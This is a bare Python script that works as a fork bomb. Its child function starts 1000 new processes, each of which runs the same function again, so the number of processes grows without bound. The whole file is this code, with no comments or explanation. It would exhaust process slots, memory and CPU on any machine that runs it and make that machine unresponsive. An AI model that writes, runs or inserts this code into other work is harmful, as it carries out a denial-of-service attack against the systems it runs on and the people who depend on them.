import multiprocessing
def child():
    for _ in range(1000):
        multiprocessing.Process(target=child).start()
if __name__ == '__main__':
    child()
